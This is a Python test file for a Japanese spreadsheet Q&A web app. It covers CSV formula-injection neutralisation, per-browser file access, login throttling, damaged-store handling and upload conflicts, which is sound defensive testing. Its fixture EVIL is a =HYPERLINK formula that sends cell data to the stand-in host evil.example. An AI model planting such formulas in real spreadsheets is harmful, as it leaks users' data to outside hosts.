"""The app against what a file or a user might do (issue #14): formula injection in the CSV it
writes, answer files fetched by another browser, a password guessed quickly, a damaged store at
start-up, and an upload that would stand in for another file's sheet.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path

import httpx
import pytest
from pydantic import SecretStr

from assistant.answer import Answer, Fact
from ingest.index import build, list_sheets
from tests.test_app import _free_port, _sheet_json
from ui import serve
from ui.chat import make_respond
from ui.engine import Engine
from ui.format import write_facts_csv
from ui.launch import launch
from ui.layout import build_app
from ui.settings import UISettings
from ui.upload import make_add

ROOT = Path(__file__).resolve().parents[1]
pytestmark = [
    pytest.mark.filterwarnings("ignore:.*no_silent_downcasting"),
    pytest.mark.filterwarnings("ignore:The copy keyword is deprecated"),
]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"開く")'


def _settings(home: Path, **app: object) -> UISettings:
    from tests.index_support import model_cache

    settings = UISettings(home=home, models={"cache_dir": model_cache()})
    return settings.model_copy(update={"app": settings.app.model_copy(update=app)}) if app else settings


@pytest.fixture(scope="module")
def engine(tmp_path_factory) -> Engine:
    """A store holding one ordinary sheet and one whose project name is a spreadsheet formula."""
    from tests.index_support import real_embeddings

    home = tmp_path_factory.mktemp("app-robust-store")
    files = tmp_path_factory.mktemp("app-robust-files")
    (files / "講座.json").write_text(_sheet_json("試験事業"), encoding="utf-8")
    (files / "evil.json").write_text(_sheet_json(EVIL, section="@SUM(1+1)課"), encoding="utf-8")
    settings = _settings(home)
    engine = Engine(settings, embeddings=real_embeddings(), retrieval=False)
    engine.add_files([(p.name, p) for p in sorted(files.iterdir())])
    assert len(list_sheets(settings)) == 2
    return engine


@pytest.fixture
def server(engine: Engine):
    """The app on a free port (``auth``: a login), yielding its URL."""
    demos = []

    def start(auth: str | None = None) -> str:
        app = engine.settings.app.model_copy(update={"port": _free_port(), "auth": SecretStr(auth) if auth else None})
        demo = build_app(engine)
        launch(demo, engine.settings.model_copy(update={"app": app}), prevent_thread_lock=True, quiet=True)
        demos.append(demo)
        return f"http://127.0.0.1:{app.port}/"

    yield start
    for demo in demos:
        demo.close()


def _csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def _file_path(value: object) -> str:
    """The server path of a file output as the API returns it (an update, or file data)."""
    if isinstance(value, dict):
        return _file_path(value.get("value")) if "value" in value else str(value.get("path") or "")
    return str(value or "")


def _sheet_id(engine: Engine, project: str) -> str:
    return next(s.sheet_id for s in list_sheets(engine.settings) if s.project == project)


# ----------------------------------------------------------------------------- CSV injection


def test_csv_cells_that_start_a_formula_are_text_and_numbers_stay_numbers(tmp_path: Path) -> None:
    from ui.format import csv_cell

    for text in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", EVIL):
        assert csv_cell(text) == "'" + text
    for value in (-5, -1.5, 0, 316799, "-5", "+3", "-1.25e3", "市民", "", "1-2"):
        assert csv_cell(value) == value
    answer = Answer(question="=1+1 の総事業費は？", answer="a", facts=[
        Fact(sheet_id="s1", project=EVIL, row="総事業費", fy=2024, field="total_cost", value=1500, unit="千円"),
        Fact(sheet_id="s1", project=EVIL, row="増減", fy=2024, field="difference", value=-120, unit="千円",
             computed=True)])
    rows = _csv_rows(write_facts_csv(answer, tmp_path / "f.csv"))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or re.match(r"-\D", c)], cells
    assert rows[1][0] == "'=1+1 の総事業費は？" and rows[1][1] == "'" + EVIL
    assert "-120" in rows[2]  # a negative number is still a number, not '-120


def test_answer_csv_of_a_project_named_like_a_formula_is_neutralised(engine: Engine) -> None:
    evil = _sheet_id(engine, EVIL)
    out = list(make_respond(engine)("総事業費は？", [], [], [evil]))[-1]
    answer, csv_value = out[-1], out[6]["value"]  # the CSV button's update: the file's path
    assert answer and answer["answerable"], answer
    rows = _csv_rows(Path(csv_value))
    assert any(r[1] == "'" + EVIL for r in rows[1:]), rows
    assert any(r[6] == "'@SUM(1+1)課" for r in rows[1:]), rows
    assert not any(c.startswith(("=", "@", "+")) for r in rows for c in r)
    assert any(c == "1500" for r in rows for c in r)


# ----------------------------------------------------------------------------- answer files


def test_answer_files_are_served_only_to_the_browser_that_asked(engine: Engine, server) -> None:
    from gradio_client import Client

    url = server()
    mine, theirs = {serve.COOKIE: "browser-a-" + "x" * 20}, {serve.COOKIE: "browser-b-" + "y" * 20}
    client = Client(url, verbose=False, download_files=False, headers={"Cookie": f"{serve.COOKIE}={mine[serve.COOKIE]}"})
    result = client.predict("試験事業の総事業費は？", [], api_name="/ask")
    assert "1,500" in result[-1]["answer"]
    # (msg, chat, head, chart, table, CSV, …): gr.State is no output of the API
    files = [_file_path(v) for v in (result[3], result[5])]
    assert all(files), result
    for path in files:
        for route in (f"gradio_api/file={path}", f"gradio_api/file/{path}"):
            assert httpx.get(url + route, cookies=mine).status_code == 200, route
            assert httpx.get(url + route, cookies=theirs).status_code == 404, route  # another browser
            assert httpx.get(url + route).status_code == 404, route  # a script that learnt the path
        dotted = path.replace("/sheetqa-files-", "/./sheetqa-files-", 1)
        assert httpx.get(url + f"gradio_api/file={dotted}", cookies=theirs).status_code == 404
    assert "1500" in httpx.get(url + f"gradio_api/file={files[1]}", cookies=mine).text
    page = httpx.get(url)
    assert page.status_code == 200 and serve.COOKIE in page.cookies  # every browser gets its cookie


# ----------------------------------------------------------------------------- login


def _login(url: str, password: str) -> httpx.Response:
    return httpx.post(url + "login", data={"username": "staff", "password": password}, timeout=60)


def test_login_backs_off_after_failed_passwords(engine: Engine, server) -> None:
    now = [1000.0]
    engine.throttle = serve.LoginThrottle(clock=lambda: now[0])  # the defaults, on a clock the test moves
    try:
        url = server("staff:secret")
        codes: list[int] = []
        threads = [threading.Thread(target=lambda: codes.append(_login(url, "wrong").status_code)) for _ in range(30)]
        started = time.perf_counter()
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert len(codes) == 30 and set(codes) <= {400, 429} and codes.count(429) >= 20, codes
        while (r := _login(url, "wrong")).status_code == 400:  # one at a time: each waits longer
            assert time.perf_counter() - started < 30
        assert r.status_code == 429 and int(r.headers["retry-after"]) >= 1
        assert "ログインの試行が多すぎます" in r.json()["detail"]
        refused = _login(url, "secret")  # the right password, during the back-off: refused
        assert refused.status_code == 429 and "access-token" not in "".join(refused.cookies.keys())
        now[0] += 901  # a quiet quarter of an hour: forgotten
        ok = _login(url, "secret")
        assert ok.status_code == 200 and any(k.startswith("access-token") for k in ok.cookies.keys())
    finally:
        engine.throttle = serve.LoginThrottle()


def test_login_throttle_policy_is_per_client() -> None:
    now = [0.0]
    t = serve.LoginThrottle(free=3, base=1.0, cap=300.0, hold=5.0, clock=lambda: now[0])
    for _ in range(3):
        assert t.begin("10.0.0.1") == ("go", 0.0)
        t.end("10.0.0.1", False)
    assert t.begin("10.0.0.1") == ("go", 0.0)  # the 4th attempt is free, it fails: the 5th waits
    assert t.begin("10.0.0.1") == ("busy", 0.0)  # one attempt in flight at a time
    t.end("10.0.0.1", False)
    assert t.begin("10.0.0.1") == ("go", 1.0)
    t.end("10.0.0.1", False)
    for _ in range(3):
        verdict, wait = t.begin("10.0.0.1")
        t.end("10.0.0.1", False) if verdict == "go" else None
    assert t.begin("10.0.0.1")[0] == "later"
    assert t.begin("10.0.0.2") == ("go", 0.0)  # another client is not held back
    t.end("10.0.0.2", True)
    now[0] += 400
    assert t.begin("10.0.0.1")[0] == "go"
    t.end("10.0.0.1", True)  # a right password clears the record
    assert t.begin("10.0.0.1") == ("go", 0.0)
    assert t.delay(100) == 300.0


# ----------------------------------------------------------------------------- a damaged store


def _damaged_store(tmp_path: Path) -> UISettings:
    from ingest.vectors import E5Embedding
    from tests.index_support import real_embeddings

    sheet = tmp_path / "講座.json"
    sheet.write_text(_sheet_json("試験事業"), encoding="utf-8")
    settings = _settings(tmp_path / "store")
    assert build([sheet], settings, embedding=E5Embedding(embeddings=real_embeddings())).ok
    shutil.rmtree(settings.home / "chroma")
    return settings


def test_damaged_store_at_start_is_one_japanese_line_and_the_page_still_serves(tmp_path: Path) -> None:
    from gradio_client import Client

    from tests.index_support import subprocess_env

    settings = _damaged_store(tmp_path)
    port = _free_port()
    proc = subprocess.Popen([sys.executable, str(ROOT / "app.py"), "--store", str(settings.home), "--port", str(port)],
                            cwd=ROOT, env=subprocess_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert proc.stdout is not None
        lines = []
        deadline = time.time() + 180
        while time.time() < deadline and not any(line.startswith("ready in") for line in lines):
            line = proc.stdout.readline()
            if not line and proc.poll() is not None:
                break
            lines.append(line)
        assert any(line.startswith("ready in") for line in lines), lines
        url = f"http://127.0.0.1:{port}/"
        assert httpx.get(url).status_code == 200
        shown = [str(c.get("props", {}).get("value")) for c in httpx.get(url + "config").json()["components"]]
        config = "\n".join(shown).replace("\\", "")  # Markdown escapes (\-\-repair) as the page shows them
        assert "シートの保存先（ストア）に問題があります" in config and "python -m ingest build --repair" in config
        answer = Client(url, verbose=False, download_files=False).predict("試験事業の総事業費は？", [], api_name="/ask")
        said = "".join(part["text"] for part in answer[1][-1]["content"]).replace("\\", "")
        assert "欠けています" in said and "--repair" in said and "Traceback" not in said and "\n" not in said.strip(), said
    finally:
        proc.terminate()
        _, err = proc.communicate(timeout=30)
    assert "Traceback" not in err, err
    errors = [line for line in err.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and "--repair" in errors[0], err


def test_truncated_figures_database_is_a_line_on_the_page_not_an_error(tmp_path: Path) -> None:
    settings = _damaged_store(tmp_path)
    db = settings.sqlite_path
    db.write_bytes(db.read_bytes()[: db.stat().st_size // 2])
    engine = Engine(settings, retrieval=False)  # no exception
    assert engine.health.damaged and not engine.usable
    demo = build_app(engine)
    notes = [b for b in demo.blocks.values() if getattr(b, "elem_id", None) == "store-note"]
    assert notes and notes[0].visible and "シートの保存先（ストア）に問題があります" in notes[0].value
    out = list(make_respond(engine)("試験事業の総事業費は？", [], []))[-1]
    assert out[1][-1]["content"] and "エラーが起きました" not in out[1][-1]["content"]
    assert out[1][-1]["content"].replace("\\", "") in notes[0].value.replace("\\", "")
    note, *_ = make_add(engine)([str(tmp_path / "講座.json")], [])
    assert note == engine.health.line_ja  # no upload into a damaged store


# ----------------------------------------------------------------------------- conflict and 置き換える


def test_an_upload_standing_in_for_another_files_sheet_is_a_conflict_until_replaced(engine: Engine,
                                                                                   tmp_path: Path) -> None:
    first = tmp_path / "a" / "重複元.json"
    first.parent.mkdir()
    first.write_text(_sheet_json("試験重複事業", actual=5), encoding="utf-8")
    other = tmp_path / "b" / "重複先.json"  # another file: the same project, 課 and year
    other.parent.mkdir()
    other.write_text(_sheet_json("試験重複事業", actual=6), encoding="utf-8")
    add = make_add(engine)
    try:
        note, table, _, held, button = add([str(first)], [])
        assert list(table["結果"]) == ["登録"]
        before = {s.sheet_id for s in list_sheets(engine.settings)}

        note, table, _, held, button = add([str(other)], [])
        row = table.iloc[0]
        assert row["結果"] == "重複（未登録）" and "重複元.json" in row["理由"] and "置き換える" in row["理由"]
        assert "事業名・課・年度が同じです" in row["理由"]
        assert "「置き換える」" in note and button.visible and [n for n, _ in held] == ["重複先.json"]
        assert str(tmp_path) not in note + "".join(map(str, table.values.ravel()))  # no server path
        assert {s.sheet_id for s in list_sheets(engine.settings)} == before  # nothing changed
        assert not (engine.upload_dir / "重複先.json").exists()
        assert "実績5回" in engine.ask("試験重複事業の2024年度の講座の開催回数の実績は？", []).answer

        note, table, _, held_after, button = add.replace(held)  # type: ignore[attr-defined]
        assert list(table["結果"]) == ["置き換え"] and "置き換えました" in table.iloc[0]["理由"]
        assert not button.visible and held_after == []
        assert not Path(held[0][1]).exists()  # the private copy is gone
        assert "実績6回" in engine.ask("試験重複事業の2024年度の講座の開催回数の実績は？", []).answer
        assert sum(s.project == "試験重複事業" for s in list_sheets(engine.settings)) == 1
    finally:
        from ingest.index import remove

        for s in list_sheets(engine.settings):
            if s.project == "試験重複事業":
                remove(s.sheet_id, engine.settings)
        for name in ("重複元.json", "重複先.json"):
            (engine.upload_dir / name).unlink(missing_ok=True)
